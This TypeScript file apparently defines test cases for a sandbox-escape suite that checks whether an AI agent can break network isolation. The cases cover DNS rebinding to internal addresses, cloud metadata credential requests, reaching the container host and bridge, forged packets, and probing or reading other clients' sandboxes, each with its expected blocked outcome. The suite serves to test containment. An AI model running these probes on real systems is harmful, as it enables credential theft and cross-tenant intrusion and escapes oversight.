import { refused, type TechniqueClass } from "../technique.ts";

const PRIVATE = refused("http", "private-address");
const ELSEWHERE = "the lab's container resolves nothing by the fake internet";
const SANDBOX_ONLY = "the rule that leads there is for sandboxes";

/** Allowed names whose owners point them inside: the address is judged as well as the name. */
export const rebinding: TechniqueClass = {
  name: "an allowed name that points inside",
  judged: "network",
  rows: [
    ...[
      "loopback",
      "loopback2",
      "zero",
      "ten",
      "docker",
      "lan",
      "cgnat",
      "link-local",
      "metadata",
      "benchmark",
      "multicast",
      "reserved",
      "broadcast",
      "protocols",
    ].flatMap((place): TechniqueClass["rows"] => [
      [`rebind-${place}`, `over HTTP: ${place}`, `http(get('${place}.trap.test', '/' + TOKEN), wait=3)`, PRIVATE],
    ]),
    ["rebind-tls", "over TLS, to the LAN", "tls('lan.trap.test')", refused("tls", "private-address")],
    [
      "rebind-tls-metadata",
      "over TLS, to the metadata address",
      "tls('metadata.trap.test')",
      refused("tls", "private-address"),
    ],
    [
      "rebind-ssh",
      "over another port, to the LAN",
      "tcp(TRAPVIP, 22, TOKEN) # ssh.trap.test",
      refused("tcp", "private-address"),
    ],
    [
      "rebind-mixed",
      "now here and now inside, again and again",
      "[http(get('mixed.trap.test', '/' + 'x' * 5)) for _ in range(6)] and None",
    ],
    [
      "rebind-turns",
      "first here and the next time inside, on one connection",
      "http(*[get('turns.trap.test')] * 5, pause=0.3) and None",
    ],
    ["rebind-no-address", "nowhere", "http(get('nowhere.trap.test', '/' + TOKEN), wait=3)", refused("http", "no-dns")],
    [
      "rebind-mapped",
      "to an IPv4 address inside, written as IPv6",
      "http(get('mapped.trap.test', '/' + TOKEN), wait=3)",
      refused("http", "no-dns"),
    ],
    [
      "rebind-v6",
      "to IPv6 addresses only",
      "http(get('six.trap.test', '/' + TOKEN), wait=3)",
      refused("http", "no-dns"),
    ],
  ],
};

export const metadata: TechniqueClass = {
  name: "the clouds' metadata address",
  judged: "network",
  rows: [
    [
      "metadata-http",
      "over HTTP",
      "tcp(METADATA, 80, get(METADATA, '/latest/meta-data/' + TOKEN))",
      "shut",
      SANDBOX_ONLY,
    ],
    [
      "metadata-token",
      "with the header of its second version",
      "tcp(METADATA, 80, head('PUT /latest/api/token HTTP/1.1', 'Host: ' + METADATA, 'X-aws-ec2-metadata-token-ttl-seconds: 60', 'X: ' + TOKEN))",
      "shut",
      SANDBOX_ONLY,
    ],
    [
      "metadata-names",
      "by the names it has",
      "[in_a_shell(f'curl -sSf -m 2 http://{name}/{TOKEN}') for name in ('metadata.google.internal', 'metadata', 'instance-data')]",
      "shut",
      ELSEWHERE,
    ],
    [
      "metadata-host",
      "in the Host of a request to the gateway",
      "http(get('metadata.google.internal', '/' + TOKEN, 'Metadata-Flavor: Google'))",
      refused("http", "domain"),
    ],
    [
      "metadata-ecs",
      "the credentials of tasks (169.254.170.2)",
      "tcp('169.254.170.2', 80, get('169.254.170.2', '/' + TOKEN))",
      "shut",
      SANDBOX_ONLY,
    ],
    ["metadata-v6", "over IPv6 (fd00:ec2::254)", "tcp('fd00:ec2::254', 80, TOKEN)", "shut", SANDBOX_ONLY],
    ["metadata-udp", "over UDP", "udp(METADATA, 53, TOKEN)", "shut", SANDBOX_ONLY],
  ],
};

/** The engine's host: a listener of the suite on every address it has counts what arrives. */
export const host: TechniqueClass = {
  name: "the engine's host",
  judged: "network",
  plain: "internet",
  rows: [
    [
      "host-tcp",
      "TCP to each of its addresses",
      "[quietly(tcp, address, HOSTPORT, TOKEN) for address in HOSTS] and None",
    ],
    [
      "host-udp",
      "UDP to each of its addresses",
      "[quietly(udp, address, HOSTPORT, TOKEN) for address in HOSTS] and None",
    ],
    [
      "host-names",
      "by the names engines give it",
      "[quietly(in_a_shell, f'curl -m 2 http://{name}:{HOSTPORT}/{TOKEN}') for name in ('host.docker.internal', 'gateway.docker.internal', 'host.containers.internal', 'host')] and None",
      "shut",
      "a plain network has no such names",
    ],
    ["host-vip", "a port of it by the gateway", "tcp(GATEWAY, HOSTPORT, TOKEN)"],
    [
      "host-vip-undeclared",
      "a port of it where the declared one is",
      "tcp(LANVIP, HOSTPORT, TOKEN)",
      "shut",
      "the LAN's machine is not the host",
    ],
    [
      "host-http",
      "by its address in a Host",
      "[http(get(address, '/' + TOKEN)) for address in HOSTS if ':' not in address] and None",
    ],
    [
      "host-bridge-mac-syn",
      "a connection handed to the bridge by its MAC address",
      "[by(BRIDGE_MAC, ipv4(address, 6, tcp_part(address, HOSTPORT, TOKEN))) for address in HOSTS if ':' not in address]",
      "shut",
      "the answer finds nobody who asked, so no connection comes to be",
    ],
    [
      "host-bridge-mac-forward",
      "a packet for the internet handed to the bridge",
      "by(BRIDGE_MAC, ipv4(EVIL, 17, udp_part(EVIL, 9999, TOKEN)))",
    ],
    [
      "host-link-local",
      "its link-local address",
      "udp(link_local(BRIDGE_MAC) + '%eth0', HOSTPORT, TOKEN)",
      "shut",
      "the interface has no IPv6 here",
    ],
  ],
};

/** What anybody may send without a right, and each machine on the link takes: the listener is one of the host's, on all its addresses. */
export const everybody: TechniqueClass = {
  name: "what is sent to everybody on the link",
  judged: "network",
  plain: "internet",
  alone: true,
  rows: [
    [
      "host-broadcast",
      "to 255.255.255.255",
      "udp('255.255.255.255', HOSTPORT, TOKEN, setup=lambda s: s.setsockopt(1, 6, 1))",
    ],
    [
      "host-broadcast-subnet",
      "to the network's broadcast address",
      "udp(SUBNET_BROADCAST, HOSTPORT, TOKEN, setup=lambda s: s.setsockopt(1, 6, 1))",
    ],
    ["host-multicast", "to all hosts (224.0.0.1)", "udp('224.0.0.1', HOSTPORT, TOKEN)"],
    ["host-multicast-mdns", "to the group of mDNS (224.0.0.251)", "udp('224.0.0.251', HOSTPORT, TOKEN)"],
    ["host-multicast-ssdp", "to the group of SSDP (239.255.255.250)", "udp('239.255.255.250', HOSTPORT, TOKEN)"],
    [
      "host-multicast-v6",
      "to all nodes (ff02::1)",
      "udp('ff02::1%eth0', HOSTPORT, TOKEN)",
      "shut",
      "a plain network of Docker 20.10 has no IPv6",
    ],
    [
      "host-multicast-v6-mdns",
      "to the group of mDNS (ff02::fb)",
      "udp('ff02::fb%eth0', HOSTPORT, TOKEN)",
      "shut",
      "a plain network of Docker 20.10 has no IPv6",
    ],
  ],
};

/** The kernel of the engine's host takes what is handed to its bridge's MAC address, or to none that a bridge carries on. It needs raw sockets, which the agent has not. */
export const bridge: TechniqueClass = {
  name: "a frame for the host's bridge",
  judged: "network",
  plain: "internet",
  alone: true,
  rows: [
    [
      "host-bridge-mac",
      "a datagram handed to the bridge by its MAC address",
      "[by(BRIDGE_MAC, ipv4(address, 17, udp_part(address, HOSTPORT, TOKEN))) for address in HOSTS if ':' not in address]",
    ],
    [
      "host-bridge-mac-public",
      "from a public address",
      "[by(BRIDGE_MAC, ipv4(address, 17, udp_part(address, HOSTPORT, TOKEN, source=EVIL), source=EVIL)) for address in HOSTS if ':' not in address]",
    ],
    [
      "host-bridge-mac-v6",
      "its link-local address, by its MAC address",
      "by(BRIDGE_MAC, ipv6(link_local(BRIDGE_MAC), 17, udp_part(link_local(BRIDGE_MAC), HOSTPORT, TOKEN, source=link_local(own()))))",
    ],
    [
      "host-broadcast-frame",
      "everybody on the link, for an address of the host",
      "[by(EVERYBODY, ipv4(address, 17, udp_part(address, HOSTPORT, TOKEN))) for address in HOSTS if ':' not in address]",
    ],
    [
      "host-group-frame",
      "to the groups that no bridge carries on (01:80:c2:00:00:0x), for an address of the host",
      "[by(f'01:80:c2:00:00:{last:02x}', ipv4(address, 17, udp_part(address, HOSTPORT, TOKEN))) for address in HOSTS if ':' not in address for last in range(16)]",
    ],
    [
      "host-group-frame-broadcast",
      "to the same groups, for everybody",
      "[by(f'01:80:c2:00:00:{last:02x}', ipv4('255.255.255.255', 17, udp_part('255.255.255.255', HOSTPORT, TOKEN))) for last in range(16)]",
    ],
    [
      "host-multicast-frame-v6",
      "to all nodes (ff02::1)",
      "by('33:33:00:00:00:01', ipv6('ff02::1', 17, udp_part('ff02::1', HOSTPORT, TOKEN, source=link_local(own()))))",
      "shut",
      "the bridge of a plain network has no IPv6",
    ],
  ],
};

/** What machines listen on. */
export const services: TechniqueClass = {
  name: "a service of the engine's host",
  judged: "gateway",
  rows: [
    [
      "host-ports",
      "the ports that machines listen on",
      "[(address, found) for address in HOSTS for found in [quietly(accepted, address, [22, 111, 2375, 2376, 2377, 4243, 5355, 6443, 10250])] if found] or None",
    ],
  ],
};

export const clients: TechniqueClass = {
  name: "another client's sandbox",
  judged: "network",
  rows: [
    ["client-agent", "its agent's address", "tcp(OTHER_AGENT, 8000, get(BAD))"],
    ["client-agent-udp", "its agent's address over UDP", "udp(OTHER_AGENT, 8000, TOKEN)"],
    ["client-gateway", "its gateway", "ask(BAD, server=OTHER_GATEWAY)"],
    ["client-vip", "its gateway, for what it may reach", "tls('also.test', to=OTHER_VIP)"],
    ["client-outer", "its gateway's outer address", "tcp(OTHER_OUTER, 443, TOKEN)"],
    [
      "client-name",
      "by its containers' names",
      "[quietly(in_a_shell, f'curl -m 2 http://{name}:8000/{TOKEN}') for name in OTHER_NAMES] and None",
    ],
    ["client-host", "in the Host of a request", "http(get(OTHER_AGENT, '/' + TOKEN))", refused("http", "domain")],
    [
      "client-rebind",
      "by an allowed name that points at it",
      "http(get('ten.trap.test', '/' + TOKEN), wait=3)",
      PRIVATE,
    ],
    [
      "client-handed",
      "a packet handed to the gateway",
      "by(gateway(), ipv4(OTHER_AGENT, 17, udp_part(OTHER_AGENT, 8000, TOKEN)))",
    ],
    [
      "client-handed-outer",
      "a packet for its gateway handed to ours",
      "by(gateway(), ipv4(OTHER_OUTER, 6, tcp_part(OTHER_OUTER, 443, TOKEN)))",
    ],
    [
      "client-bridge",
      "a packet handed to the bridge",
      "by(BRIDGE_MAC, ipv4(OTHER_AGENT, 17, udp_part(OTHER_AGENT, 8000, TOKEN)))",
    ],
    [
      "client-forged",
      "in its agent's name",
      "by(gateway(), ipv4(OTHER_GATEWAY, 17, udp_part(OTHER_GATEWAY, 53, question(BAD), source=OTHER_AGENT), source=OTHER_AGENT))",
    ],
    [
      "client-files",
      "its volumes and workspace",
      "in_a_shell(f'grep -rsl of-globex /workspace /home /run /mnt /var/lib')",
    ],
  ],
};
